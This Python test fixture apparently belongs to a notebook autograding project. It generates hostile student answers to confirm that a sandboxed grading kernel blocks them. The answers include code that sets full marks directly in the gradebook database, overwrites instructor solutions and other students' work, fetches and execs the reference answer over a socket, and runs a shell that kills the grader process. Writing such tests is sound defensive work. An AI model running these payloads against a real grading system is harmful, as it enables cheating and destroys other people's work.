"""Answers that try to reach outside the notebook (issue 7, class 3), for any exercise.

Each wraps a wrong answer (the source of a solution cell) with an attempt to get its points
another way. In the sandboxed grading kernel every attempt fails, so each answer scores
what its wrong answer earns (0), and tests/grading/test_roundtrip.py checks that the
gradebook, the course's files and the other students' folders are untouched: an attack
that succeeded would leave a file named ``TAMPERED`` (MARKER) there.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import nbformat

MARKER = "TAMPERED"
# The round trip serves each solution cell's reference source on the host's loopback:
# send a grade_id and a newline, get the source back. An answer that reached it would
# score full points.
ANSWER_PORT = 48123

_FIND_COURSE = """
import pathlib
course = next(f for f in pathlib.Path.cwd().parents if (f / "gradebook.db").exists())
book = course / "gradebook.db"
"""


def writes_the_gradebook(wrong_answer: str) -> str:
    """Full marks written into the gradebook: with sqlite, through a symlink, or by replacing the file."""
    return (
        _FIND_COURSE
        + f'''
import sqlite3
def full_marks(path):
    with sqlite3.connect(path) as db:
        db.execute("UPDATE grade SET manual_score = 100")
for attempt in (
    lambda: full_marks(book),
    lambda: (pathlib.Path("link.db").symlink_to(book), full_marks("link.db")),
    lambda: book.write_bytes(b"{MARKER}"),
    lambda: book.unlink(),
    lambda: (course / "{MARKER}").write_text("x"),
):
    try:
        attempt()
    except Exception as error:
        print("refused:", type(error).__name__)
'''
        + wrong_answer
    )


def overwrites_the_course(wrong_answer: str) -> str:
    """The instructor's notebooks, the configuration, the other students' work, the home folder."""
    return (
        _FIND_COURSE
        + f'''
import os, pwd
targets = [*course.parent.glob("solutions/*/*.ipynb"), *course.parent.glob("notebooks/*/*.ipynb"),
           course / "nbgrader_config.py", *course.glob("submitted/*/*/*.ipynb"),
           *(folder / "{MARKER}" for folder in course.glob("autograded/*/*") if folder != pathlib.Path.cwd()),
           pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir) / "{MARKER}", pathlib.Path("/etc/{MARKER}")]
for target in targets:
    try:
        target.write_text("{MARKER}")
    except OSError as error:
        print("refused:", target.name, type(error).__name__)
'''
        + wrong_answer
    )


def fetches_the_answer(grade_id: str, wrong_answer: str) -> str:
    """The right answer fetched over the network (the round trip serves it on the host's loopback)."""
    return (
        f'''
import socket
for host in ("127.0.0.1", "localhost", "::1", "pypi.org"):
    try:
        with socket.create_connection((host, {ANSWER_PORT}), timeout=3) as connection:
            connection.sendall(b"{grade_id}\\n")
            exec(connection.makefile().read())
            break
    except OSError as error:
        print("no network:", host, type(error).__name__)
else:
'''
        + textwrap.indent(wrong_answer.strip(), "    ")
        + "\n"
    )


def spawns_a_shell(wrong_answer: str) -> str:
    """A shell that looks for the grader to kill it and writes beside the gradebook."""
    return (
        f'''
import subprocess
script = r"""
for p in /proc/[0-9]*; do
    if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q 'bin/nbgrader'; then kill -9 ${{p#/proc/}}; fi
done
touch ../../../{MARKER} ../../../../{MARKER} /tmp/{MARKER}
ls /tmp
"""
print(subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True))
'''
        + wrong_answer
    )


def reference_source(assignment: str, grade_id: str) -> str:
    """The reference solution cell's source, for answers that are right but break a rule of grading."""
    for path in (Path(__file__).resolve().parents[2] / "solutions" / assignment).glob("*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                return cell.source
    raise KeyError(f"{assignment}: no cell {grade_id}")
